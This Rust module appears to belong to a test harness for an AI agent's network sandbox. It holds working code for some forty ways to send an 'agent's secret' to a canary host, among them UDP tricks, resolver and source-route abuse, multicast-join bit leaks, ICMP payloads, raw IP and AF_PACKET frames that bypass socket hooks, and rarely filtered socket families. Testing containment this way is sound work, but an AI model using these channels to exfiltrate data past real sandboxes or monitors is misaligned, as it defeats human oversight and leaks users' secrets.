//! UDP, the protocols beside it, raw and packet sockets, multicast.

use std::net::{Ipv4Addr, Ipv6Addr, SocketAddr};
use std::os::fd::OwnedFd;

use crate::stream::{link_local, mapped};
use crate::sys::{self, Attempt};
use crate::{Outcome, Scene, Technique};

/// What must not be heard outside: the capture looks for it.
pub(crate) const SECRET: &[u8] = b"the agent's secret\n";

pub(crate) const IPPROTO_UDPLITE: i32 = 136;
const IPPROTO_L2TP: i32 = 115;
/// `linux/socket.h`.
const AF_RXRPC: i32 = 33;
pub(crate) const MDNS: Ipv4Addr = Ipv4Addr::new(224, 0, 0, 251);

pub(crate) const TECHNIQUES: &[Technique] = &[
    ("udp", |scene| send(scene.canary(), 0)),
    ("udp6", |scene| send(scene.canary6(), 0)),
    ("udp_mapped", |scene| send(mapped(scene.canary()), 0)),
    ("udp_unspecified", |scene| send(SocketAddr::new(Ipv4Addr::UNSPECIFIED.into(), scene.port("bystander")), 0)),
    ("udp_unspecified6", |scene| send(SocketAddr::new(Ipv6Addr::UNSPECIFIED.into(), scene.port("bystander")), 0)),
    ("udp_link_local", |scene| send(link_local(scene), scene.number("interface"))),
    ("udp_connected", |scene| connected(scene.canary())),
    ("udp6_connected", |scene| connected(scene.canary6())),
    ("udp_quic", |scene| send(SocketAddr::new(scene.canary().ip(), 443), 0)),
    ("udp_unspecified_family", udp_unspecified_family),
    ("udp6_with_v4_address", udp6_with_v4_address),
    ("udp6_connected_v4", udp6_connected_v4),
    ("udp_after_resolver", udp_after_resolver),
    ("udp_corked", udp_corked),
    ("udp_packet_info", udp_packet_info),
    ("udp6_packet_info", udp6_packet_info),
    ("udp_source_route", udp_source_route),
    ("udp_broadcast", udp_broadcast),
    ("udp_multicast", |scene| send(SocketAddr::new(MDNS.into(), scene.port("port")), 0)),
    ("udp_multicast6", |scene| {
        send(SocketAddr::new("ff02::fb".parse().expect("an address"), scene.port("port")), scene.number("interface"))
    }),
    ("multicast_join", multicast_join),
    ("multicast_join6", multicast_join6),
    ("udp_lite", |scene| other(scene, libc::AF_INET, libc::SOCK_DGRAM, IPPROTO_UDPLITE)),
    ("l2tp", |scene| other(scene, libc::AF_INET, libc::SOCK_DGRAM, IPPROTO_L2TP)),
    ("ping", |scene| ping(scene, libc::SOCK_DGRAM)),
    ("ping_raw", |scene| ping(scene, libc::SOCK_RAW)),
    ("ping6", |scene| ping6(scene, libc::SOCK_DGRAM)),
    ("ping6_raw", |scene| ping6(scene, libc::SOCK_RAW)),
    ("raw", |scene| other(scene, libc::AF_INET, libc::SOCK_RAW, 253)),
    ("raw_header", raw_header),
    ("raw6", |scene| {
        let fd = sys::socket(libc::AF_INET6, libc::SOCK_RAW, 253)?;
        sys::send_to(&fd, SECRET, 0, &sys::address(SocketAddr::new(scene.canary6().ip(), 0), 0))?;
        Ok(Outcome::Done("sent"))
    }),
    ("raw6_header", |scene| {
        let fd = sys::socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_RAW)?;
        sys::send_to(&fd, &ip6_packet(scene), 0, &sys::address(SocketAddr::new(scene.canary6().ip(), 0), 0))?;
        Ok(Outcome::Done("sent"))
    }),
    ("packet", |scene| packet(scene, libc::SOCK_RAW)),
    ("packet_cooked", |scene| packet(scene, libc::SOCK_DGRAM)),
    ("packet_old", |_| {
        // SOCK_PACKET of Linux 2.0.
        sys::socket(libc::AF_INET, 10, 0).map(|_| Outcome::Done("a packet socket"))
    }),
    ("xdp", xdp),
    // Frames of a session that nobody opened, to whatever station; and networks of machines that the kernel is told of.
    ("pppoe", |_| sys::socket(libc::AF_PPPOX, libc::SOCK_STREAM, 0).map(|_| Outcome::Done("a socket for frames"))),
    ("tipc", |_| sys::socket(libc::AF_TIPC, libc::SOCK_RDM, 0).map(|_| Outcome::Done("a socket"))),
    ("rxrpc", |_| sys::socket(AF_RXRPC, libc::SOCK_DGRAM, libc::PF_INET).map(|_| Outcome::Done("a socket"))),
    ("rds", |_| sys::socket(libc::AF_RDS, libc::SOCK_SEQPACKET, 0).map(|_| Outcome::Done("a socket"))),
];

pub(crate) fn send(to: SocketAddr, scope: u32) -> Attempt<Outcome> {
    let fd = sys::udp(&to)?;
    sys::send_to(&fd, SECRET, 0, &sys::address(to, scope))?;
    Ok(Outcome::Done("sent"))
}

pub(crate) fn connected(to: SocketAddr) -> Attempt<Outcome> {
    let fd = sys::udp(&to)?;
    sys::connect(&fd, &sys::address(to, 0))?;
    sys::send_to(&fd, SECRET, 0, &[])?;
    Ok(Outcome::Done("sent"))
}

/// udp(7) takes AF_UNSPEC for AF_INET.
fn udp_unspecified_family(scene: &Scene) -> Attempt<Outcome> {
    let fd = sys::udp(&scene.canary())?;
    sys::send_to(&fd, SECRET, 0, &sys::v4(libc::AF_UNSPEC, canary_v4(scene), scene.port("port")))?;
    Ok(Outcome::Done("sent"))
}

fn canary_v4(scene: &Scene) -> Ipv4Addr {
    scene.text("canary").parse().expect("an IPv4 address")
}

/// An IPv6 socket that sends to a plain IPv4 address.
fn udp6_with_v4_address(scene: &Scene) -> Attempt<Outcome> {
    let fd = sys::udp(&scene.canary6())?;
    sys::send_to(&fd, SECRET, 0, &sys::v4(libc::AF_INET, canary_v4(scene), scene.port("port")))?;
    Ok(Outcome::Done("sent"))
}

fn udp6_connected_v4(scene: &Scene) -> Attempt<Outcome> {
    let fd = sys::udp(&scene.canary6())?;
    sys::connect(&fd, &sys::v4(libc::AF_INET, canary_v4(scene), scene.port("port")))?;
    sys::send_to(&fd, SECRET, 0, &[])?;
    Ok(Outcome::Done("sent"))
}

/// Connected to a resolver, which is allowed, then let go, then sent elsewhere.
fn udp_after_resolver(scene: &Scene) -> Attempt<Outcome> {
    let fd = resolver_socket(scene)?;
    sys::connect(&fd, &sys::v4(libc::AF_UNSPEC, Ipv4Addr::UNSPECIFIED, 0))?;
    sys::send_to(&fd, SECRET, 0, &sys::address(scene.canary(), 0))?;
    Ok(Outcome::Done("sent"))
}

/// Corked for a resolver, the rest elsewhere.
fn udp_corked(scene: &Scene) -> Attempt<Outcome> {
    let fd = sys::udp(&scene.canary())?;
    sys::send_to(&fd, SECRET, libc::MSG_MORE, &sys::address(SocketAddr::new(scene.canary().ip(), 53), 0))?;
    sys::send_to(&fd, SECRET, 0, &sys::address(scene.canary(), 0))?;
    Ok(Outcome::Done("sent, to the resolver"))
}

fn resolver_socket(scene: &Scene) -> Attempt<OwnedFd> {
    let fd = sys::udp(&scene.canary())?;
    sys::connect(&fd, &sys::address(SocketAddr::new(scene.canary().ip(), 53), 0))?;
    Ok(fd)
}

/// A query to a resolver that names the interface to leave by.
fn udp_packet_info(scene: &Scene) -> Attempt<Outcome> {
    let fd = sys::udp(&scene.canary())?;
    let info = [&scene.number("interface").to_ne_bytes()[..], &[0; 8]].concat();
    let resolver = sys::address(SocketAddr::new(scene.canary().ip(), 53), 0);
    sys::send_with_control(&fd, SECRET, &resolver, (libc::IPPROTO_IP, libc::IP_PKTINFO), &info)?;
    Ok(Outcome::Done("sent"))
}

fn udp6_packet_info(scene: &Scene) -> Attempt<Outcome> {
    let fd = sys::udp(&scene.canary6())?;
    let info = [&[0; 16][..], &scene.number("interface").to_ne_bytes()].concat();
    let resolver = sys::address(SocketAddr::new(scene.canary6().ip(), 53), 0);
    sys::send_with_control(&fd, SECRET, &resolver, (libc::IPPROTO_IPV6, libc::IPV6_PKTINFO), &info)?;
    Ok(Outcome::Done("sent"))
}

/// A query to a resolver that is to be routed by way of the canary: IP options in a control message, past setsockopt.
fn udp_source_route(scene: &Scene) -> Attempt<Outcome> {
    let fd = sys::udp(&scene.canary())?;
    // IPOPT_LSRR, one hop, and the end of the list.
    let route = [&[0x83, 7, 4][..], &canary_v4(scene).octets(), &[0]].concat();
    let resolver = sys::address(SocketAddr::new(scene.canary().ip(), 53), 0);
    sys::send_with_control(&fd, SECRET, &resolver, (libc::IPPROTO_IP, libc::IP_RETOPTS), &route)?;
    Ok(Outcome::Done("sent"))
}

fn udp_broadcast(scene: &Scene) -> Attempt<Outcome> {
    let to = SocketAddr::new(Ipv4Addr::BROADCAST.into(), scene.port("port"));
    let fd = sys::udp(&to)?;
    sys::set_int(&fd, libc::SOL_SOCKET, libc::SO_BROADCAST, 1)?;
    sys::send_to(&fd, SECRET, 0, &sys::address(to, 0))?;
    Ok(Outcome::Done("sent"))
}

/// The kernel tells the network which group was joined: 28 bits a time of the attacker's choice.
fn multicast_join(scene: &Scene) -> Attempt<Outcome> {
    let fd = sys::udp(&scene.canary())?;
    let [_, _, high, low] = canary_v4(scene).octets();
    let group = [&[239, 66, high, low][..], &[0; 4], &scene.number("interface").to_ne_bytes()].concat();
    sys::set(&fd, libc::IPPROTO_IP, libc::IP_ADD_MEMBERSHIP, &group)?;
    Ok(Outcome::Done("joined"))
}

fn multicast_join6(scene: &Scene) -> Attempt<Outcome> {
    let fd = sys::udp(&scene.canary6())?;
    let group: std::net::Ipv6Addr = "ff05::66:66".parse().expect("an address");
    let request = [&group.octets()[..], &scene.number("interface").to_ne_bytes()].concat();
    sys::set(&fd, libc::IPPROTO_IPV6, libc::IPV6_ADD_MEMBERSHIP, &request)?;
    Ok(Outcome::Done("joined"))
}

fn other(scene: &Scene, family: i32, kind: i32, protocol: i32) -> Attempt<Outcome> {
    let fd = sys::socket(family, kind, protocol)?;
    sys::send_to(&fd, SECRET, 0, &sys::address(scene.canary(), 0))?;
    Ok(Outcome::Done("sent"))
}

/// An echo request; a ping socket's checksum is the kernel's work, a raw one's does not matter here.
fn ping(scene: &Scene, kind: i32) -> Attempt<Outcome> {
    let fd = sys::socket(libc::AF_INET, kind, libc::IPPROTO_ICMP)?;
    let request = [&[8, 0, 0, 0, 0, 0, 0, 1][..], SECRET].concat();
    sys::send_to(&fd, &request, 0, &sys::address(SocketAddr::new(scene.canary().ip(), 0), 0))?;
    Ok(Outcome::Done("sent"))
}

/// The same of ICMPv6, whose checksum is the kernel's work always.
fn ping6(scene: &Scene, kind: i32) -> Attempt<Outcome> {
    let fd = sys::socket(libc::AF_INET6, kind, libc::IPPROTO_ICMPV6)?;
    let request = [&[128, 0, 0, 0, 0, 0, 0, 1][..], SECRET].concat();
    sys::send_to(&fd, &request, 0, &sys::address(SocketAddr::new(scene.canary6().ip(), 0), 0))?;
    Ok(Outcome::Done("sent"))
}

/// A whole datagram of the attacker's own making (raw(7), IP_HDRINCL).
fn raw_header(scene: &Scene) -> Attempt<Outcome> {
    let fd = sys::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW)?;
    sys::send_to(&fd, &ip_packet(scene), 0, &sys::address(scene.canary(), 0))?;
    Ok(Outcome::Done("sent"))
}

fn ip_packet(scene: &Scene) -> Vec<u8> {
    let own: Ipv4Addr = scene.text("host").parse().expect("an IPv4 address");
    let total = u16::try_from(20 + SECRET.len()).expect("short");
    let mut header = vec![0x45, 0, 0, 0, 0, 1, 0, 0, 64, 253, 0, 0];
    header[2..4].copy_from_slice(&total.to_be_bytes());
    header.extend(own.octets());
    header.extend(canary_v4(scene).octets());
    let sum: u32 = header.chunks(2).map(|word| u32::from(u16::from_be_bytes([word[0], word[1]]))).sum();
    let folded = u16::try_from((sum & 0xffff) + (sum >> 16)).map_or(0, |sum| !sum);
    header[10..12].copy_from_slice(&folded.to_be_bytes());
    header.extend(SECRET);
    header
}

/// With no next header.
fn ip6_packet(scene: &Scene) -> Vec<u8> {
    let octets = |key: &str| scene.text(key).parse::<std::net::Ipv6Addr>().expect("an IPv6 address").octets();
    let length = u16::try_from(SECRET.len()).expect("short").to_be_bytes();
    [&[0x60, 0, 0, 0, length[0], length[1], 59, 64][..], &octets("host6"), &octets("canary6"), SECRET].concat()
}

/// A frame past every hook that looks at sockets of the Internet's families.
fn packet(scene: &Scene, kind: i32) -> Attempt<Outcome> {
    let fd = sys::socket(libc::AF_PACKET, kind, 0)?;
    let hardware = scene.text("hardware").split(':').map(|byte| u8::from_str_radix(byte, 16).expect("hexadecimal"));
    let hardware: Vec<u8> = hardware.collect();
    let family = u16::try_from(libc::AF_PACKET).expect("small");
    let interface = scene.number("interface").to_ne_bytes();
    // struct sockaddr_ll
    let mut to = [&family.to_ne_bytes()[..], &0x0800_u16.to_be_bytes(), &interface, &[0, 0, 0, 6]].concat();
    to.extend(&hardware);
    to.extend([0, 0]);
    let frame = if kind == libc::SOCK_RAW {
        [&hardware[..], &hardware, &[8, 0], &ip_packet(scene)].concat()
    } else {
        ip_packet(scene)
    };
    sys::send_to(&fd, &frame, 0, &to)?;
    Ok(Outcome::Done("sent"))
}

/// An AF_XDP socket without memory for frames sends nothing: registering it is the first step of all.
fn xdp(_: &Scene) -> Attempt<Outcome> {
    const SOL_XDP: i32 = 283;
    const XDP_UMEM_REG: i32 = 4;
    const PAGES: usize = 4;
    let fd = sys::socket(libc::AF_XDP, libc::SOCK_RAW, 0)?;
    let layout = std::alloc::Layout::from_size_align(PAGES * 4096, 4096).expect("a layout");
    let memory = vec![0u8; 2 * layout.size()];
    let start = memory.as_ptr().align_offset(layout.align()) + memory.as_ptr() as usize;
    let region = [start as u64, layout.size() as u64, 4096, 0];
    let region: Vec<u8> = region.iter().flat_map(|word| word.to_ne_bytes()).collect();
    sys::set(&fd, SOL_XDP, XDP_UMEM_REG, &region)?;
    Ok(Outcome::Done("frames have their memory"))
}
